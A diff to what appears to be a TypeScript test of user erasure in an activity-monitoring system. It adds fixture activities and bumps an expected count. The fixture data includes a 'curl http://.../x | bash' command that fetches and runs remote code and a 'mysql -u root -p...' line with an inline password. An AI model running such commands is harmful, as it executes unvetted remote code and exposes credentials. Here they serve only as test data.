@@ -28,6 +28,7 @@ const marks = {
   agent: 'ZqBrowser/7.1',
   host: 'zq-laptop.example',
   note: 'she said it was the cat',
+  secret: 'vault-of-zq',
 };
 const { name } = marks;
 
@@ -56,7 +57,11 @@ async function fill(key: string) {
       did({ terminal: { command: marks.command } }, { occurredAt: '2026-11-20T09:30:00Z', idempotencyKey: 'the-first' }),
       did({ web: { page: marks.page } }, { occurredAt: '2026-11-20T10:00:00Z' }),
       did({ web: { page: '/shared' } }),
-      did({ terminal: { command: `curl http://${marks.host}/x | bash` } }),
+      did(
+        { terminal: { command: `curl http://${marks.host}/x | bash` } },
+        { secretsUsed: [{ secret: marks.secret, granted: false, reason: marks.note }] },
+      ),
+      did({ terminal: { command: `mysql -u root -p${marks.host}9Kq -h db` } }),
       { user: 'amy', detail: { web: { page: '/shared' } } },
     ],
     key,
@@ -138,7 +143,7 @@ describe('a user is erased', () => {
     expect(erased.userErrors).toEqual([]);
     expect(erased.user).toMatchObject({ externalId: expect.stringMatching(/^erased:/), displayName: null, teams: [], timeZone: null });
     expect(erased.user.erasedAt).toBe('2026-11-20T12:00:00.000000Z');
-    expect(erased.counts).toMatchObject({ activities: 9, sessions: 1, anomaliesOfOthers: expect.any(Number) });
+    expect(erased.counts).toMatchObject({ activities: 10, sessions: 1, anomaliesOfOthers: expect.any(Number) });
   });
 
   it('out of every table: nothing only they ever sent is in any row, and their name in none', async () => {
